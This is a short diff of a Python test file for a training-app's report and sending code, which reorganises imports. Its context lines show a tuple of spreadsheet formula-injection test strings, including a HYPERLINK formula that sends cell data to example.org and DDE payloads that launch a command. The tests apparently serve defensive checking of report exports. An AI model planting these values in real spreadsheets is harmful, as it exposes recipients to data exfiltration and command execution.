@@ -13,9 +13,9 @@ import pytest
 from db.database import Database
 from db.models import Course, Enrolment, Enterprise, Person
 from trainer_app import reports
-from trainer_app.programmes import load_catalogue
+from trainer_app.exchange.sending import Scope, send
+from trainer_app.programmes.catalogue import load_catalogue
 from trainer_app.reports.document import Column, Document, Table
-from trainer_app.sending import Scope, send
 
 TEXTS = (
     "=1+1", '=HYPERLINK("http://example.org/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+9)",
